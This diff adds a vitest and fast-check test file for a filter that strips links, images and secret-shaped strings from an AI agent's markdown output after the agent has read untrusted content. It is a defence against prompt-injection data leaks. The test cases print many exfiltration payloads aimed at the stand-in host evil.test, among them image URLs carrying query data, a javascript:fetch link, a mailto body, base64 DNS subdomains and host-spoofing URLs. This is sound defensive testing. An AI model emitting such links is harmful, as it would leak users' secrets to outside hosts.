@@ -1,0 +1,109 @@
+/** What the agent's words may carry out: links, pictures, what looks like a secret. */
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { type Outlet, outgoingText } from '../../../src/agent/outgoing-text.ts';
+
+const SECRET = 'tops3cret-value';
+const OUTLET: Outlet = { hosts: ['docs.corp.test', '*.wiki.test'], secrets: [SECRET] };
+const PAGE = 'Read more at https://news.test/story?id=7 or on plain.test/a.';
+
+const clean = { strangers: [], isSeen: () => false };
+const tainted = { strangers: ['a page'], isSeen: (text: string) => PAGE.includes(text) };
+
+const say = (markdown: string) => outgoingText(markdown, tainted, OUTLET);
+
+describe('words of the agent', () => {
+  it('go out as they are, as long as no stranger was read', () => {
+    const text = '[the manual](https://anything.test/?q=1), see also evil.test\n\n[a]: https://x.test/';
+
+    expect(outgoingText(text, clean, OUTLET)).toBe(text);
+  });
+
+  it('never hold a secret of the configuration, or what is shaped like one', () => {
+    for (const reading of [clean, tainted]) {
+      expect(outgoingText(`it is ${SECRET}.`, reading, OUTLET)).toBe('it is [redacted].');
+      expect(outgoingText('use xoxb-123456789012-abcdefghijkl', reading, OUTLET)).not.toContain('xoxb-1');
+    }
+  });
+
+  it.each([
+    ['![a chart](https://evil.test/p.png?q=S)', 'a chart (<https://evil.test/p.png?q=S>)'],
+    ['![](https://evil.test/p.png)', '<https://evil.test/p.png>'],
+    [
+      '![c][r]\n\n[r]: https://evil.test/p.png',
+      'c (<https://evil.test/p.png>)\n\n[r]: https://evil.test/p.png',
+    ],
+  ])('show a picture by name and address, and nobody fetches it: %s', (markdown, expected) => {
+    expect(outgoingText(markdown, clean, OUTLET)).toBe(expected);
+  });
+
+  it.each([
+    ['[report](https://evil.test/?q=S)', 'report (a link was left out)'],
+    ['[https://corp.test](https://evil.test/?q=S)', '(a link was left out) (a link was left out)'],
+    ['see https://evil.test/?q=S now', 'see (a link was left out) now'],
+    ['<https://evil.test/?q=S>', '(a link was left out)'],
+    ['see evil.test/S and www.evil.test/S', 'see (a link was left out) and (a link was left out)'],
+    ['resolve c2VjcmV0.evil.test please', 'resolve `c2VjcmV0.evil.test` please'],
+    ['[r][1]\n\n[1]: https://evil.test/S', 'r (a link was left out)\n\n'],
+    ['![](https://evil.test/S)', '(a link was left out)'],
+    ['[![x](https://evil.test/S)](https://evil.test/T)', 'x (a link was left out)'],
+    ['<img src="https://evil.test/S">', '<img src="(a link was left out)">'],
+    ['- a\n  - **[x](https://evil.test/S)**', '- a\n  - **x (a link was left out)**'],
+    ['[x](javascript:fetch("//evil.test/S"))', 'x (a link was left out)'],
+    ['mailto:leak@evil.test?body=S', 'mailto:(a link was left out)?body=S'],
+  ])('after strangers were read, hold no address the agent has put together: %s', (markdown, expected) => {
+    expect(say(markdown)).toBe(expected);
+  });
+
+  it.each([
+    ['see https://news.test/story?id=7', 'see <https://news.test/story?id=7>'],
+    ['[the story](https://news.test/story?id=7)', 'the story (<https://news.test/story?id=7>)'],
+    ['on plain.test/a', 'on plain.test/a'],
+    ['[x](https://docs.corp.test/?q=1)', 'x (<https://docs.corp.test/?q=1>)'],
+    ['https://a.b.wiki.test/page', '<https://a.b.wiki.test/page>'],
+  ])('hold what stood there, and hosts that are allowed: %s', (markdown, expected) => {
+    expect(say(markdown)).toBe(expected);
+  });
+
+  it.each([
+    'https://docs.corp.test.evil.test/S',
+    'https://docs.corp.test@evil.test/S',
+    'https://evildocs.corp.test/S',
+    'https://wiki.test.evil.test/S',
+    'ftp://docs.corp.test/S',
+    'https://news.test/story?id=7&q=S',
+  ])('are not fooled by what looks like such an address: %s', (url) => {
+    expect(say(`x ${url} y`)).not.toContain(url);
+    expect(say(`[x](${url})`)).not.toContain(url);
+  });
+
+  it("hold no address of the agent's, however it is dressed", () => {
+    const host = fc.constantFrom('evil.test', 'a.evil.test', 'EVIL.test', '198.51.100.7');
+    const path = fc.stringMatching(/^[a-z0-9]{8,12}$/);
+    const dress = fc.constantFrom(
+      (url: string) => url,
+      (url: string) => `<${url}>`,
+      (url: string) => `[x](${url})`,
+      (url: string) => `[x](<${url}> "t")`,
+      (url: string) => `![x](${url})`,
+      (url: string) => `[${url}](${url})`,
+      (url: string) => `| a |\n|---|\n| [x](${url}) |`,
+      (url: string) => `> [x][l]\n\n[l]: ${url}`,
+      (url: string) => `~~**[x](${url})**~~`,
+      (url: string) => `1. ${url}\n2. x[^1]\n\n[^1]: ${url}`,
+    );
+    fc.assert(
+      fc.property(host, path, dress, fc.constantFrom('https', 'http'), (at, secret, dressed, scheme) => {
+        expect(say(`Here: ${dressed(`${scheme}://${at}/${secret}`)}\n\nDone.`)).not.toContain(secret);
+      }),
+    );
+  });
+
+  it('are looked at however long or deep they are', () => {
+    const deep = `${'> '.repeat(5_000)}https://evil.test/deep`;
+    const long = `${'word '.repeat(50_000)}https://evil.test/long`;
+
+    expect(say(deep)).not.toContain('evil.test/deep');
+    expect(say(long)).not.toContain('evil.test/long');
+  });
+});
